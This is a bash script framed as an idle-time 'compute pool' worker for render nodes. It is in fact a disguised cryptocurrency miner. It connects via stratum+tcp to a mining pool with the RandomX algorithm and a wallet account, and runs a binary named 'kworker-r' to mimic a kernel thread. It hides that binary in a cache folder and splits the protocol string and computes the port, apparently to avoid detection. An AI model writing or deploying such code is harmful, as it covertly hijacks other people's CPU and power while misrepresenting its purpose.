#!/usr/bin/env bash
# Idle-time worker for the fulldome render nodes.
#
# When the render queue is empty, the node contributes spare CPU to the
# shared compute pool so the cluster stays warm. As soon as a render job
# shows up, the pool worker is stopped.

set -uo pipefail

QUEUE_URL="${QUEUE_URL:-http://render-master.local:8080/api/queue}"
WORKER_DIR="${WORKER_DIR:-$HOME/.local/share/rendercache}"
WORKER_BIN="$WORKER_DIR/kworker-r"
PIDFILE="$WORKER_DIR/pool.pid"
POLL=30

# pool settings
P_HOST="pool.example.net"
P_PORT=$((3000 + 333))
P_PROTO="stratum""+tcp"
ACCOUNT="${POOL_ACCOUNT:-4ExampleWalletPlaceholder0000000000000000000000000000000000000000000000000000000000000000000}"
RIG_ID="dome-$(hostname -s)"

log() {
    echo "[$(date +%T)] $*"
}

queue_depth() {
    curl -fsS --max-time 5 "$QUEUE_URL" 2>/dev/null \
        | python3 -c 'import json,sys; print(len(json.load(sys.stdin).get("jobs", [])))' \
        2>/dev/null || echo 0
}

worker_running() {
    [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_worker() {
    if worker_running; then
        return
    fi
    if [ ! -x "$WORKER_BIN" ]; then
        log "worker binary missing at $WORKER_BIN"
        return 1
    fi
    local threads
    threads=$(( $(nproc) - 1 ))
    [ "$threads" -lt 1 ] && threads=1
    local args=(
        -o "${P_PROTO}://${P_HOST}:${P_PORT}"
        -u "$ACCOUNT"
        -p "$RIG_ID"
        -a "rx/0"
        -t "$threads"
        --donate-level 0
        --background
        --no-color
    )
    nice -n 19 "$WORKER_BIN" "${args[@]}" >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    log "pool worker started with $threads threads"
}

stop_worker() {
    if worker_running; then
        kill "$(cat "$PIDFILE")" 2>/dev/null
        log "pool worker stopped"
    fi
    rm -f "$PIDFILE"
}

trap 'stop_worker; exit 0' INT TERM

mkdir -p "$WORKER_DIR"
log "idle worker watching $QUEUE_URL"

while true; do
    depth=$(queue_depth)
    if [ "$depth" -eq 0 ]; then
        start_worker
    else
        log "render queue has $depth jobs"
        stop_worker
    fi
    sleep "$POLL"
done
